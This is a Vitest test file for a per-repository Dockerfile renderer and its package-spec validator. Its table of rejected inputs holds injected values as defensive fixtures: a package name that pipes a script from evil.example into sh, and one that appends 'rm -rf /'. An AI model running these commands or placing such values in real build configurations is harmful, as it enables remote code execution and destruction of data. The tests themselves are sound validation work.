import { describe, expect, it } from "vitest";
import { renderRepoDockerfile, validateRepoImageSpec } from "../../sandbox-image/repo-image.js";

describe("per-repo Dockerfile", () => {
  it("adds only the repo's packages on top of the sandbox image", () => {
    expect(
      renderRepoDockerfile({ aptPackages: ["postgresql-client", "make"], npmPackages: ["typescript@5.9.3"] }),
    ).toMatchSnapshot();
  });

  it("says so when there is nothing repo-specific", () => {
    const dockerfile = renderRepoDockerfile({ aptPackages: [], npmPackages: [] });
    expect(dockerfile).toContain("# Nothing repo-specific yet.");
    expect(dockerfile).not.toContain("RUN");
  });

  it.each([
    [{ aptPackages: ["make; curl evil.example | sh"], npmPackages: [] }, /apt package "make; curl/],
    [{ aptPackages: ["-o=APT::x"], npmPackages: [] }, /apt package "-o=APT::x"/],
    [{ aptPackages: [], npmPackages: ["typescript"] }, /npm package "typescript" must be name@x\.y\.z/],
    [{ aptPackages: [], npmPackages: ["typescript@latest"] }, /must be name@x\.y\.z/],
    [{ aptPackages: [], npmPackages: ["@scope/pkg@1.2.3 && rm -rf /"] }, /npm package/],
  ])("refuses %j", (spec, message) => {
    expect(validateRepoImageSpec(spec).join("\n")).toMatch(message);
    expect(() => renderRepoDockerfile(spec)).toThrow(message);
  });

  it("accepts pinned apt versions and scoped npm packages", () => {
    expect(
      validateRepoImageSpec({
        aptPackages: ["git=1:2.39.5-0+deb12u2"],
        npmPackages: ["@ast-grep/cli@0.39.6"],
      }),
    ).toEqual([]);
  });
});
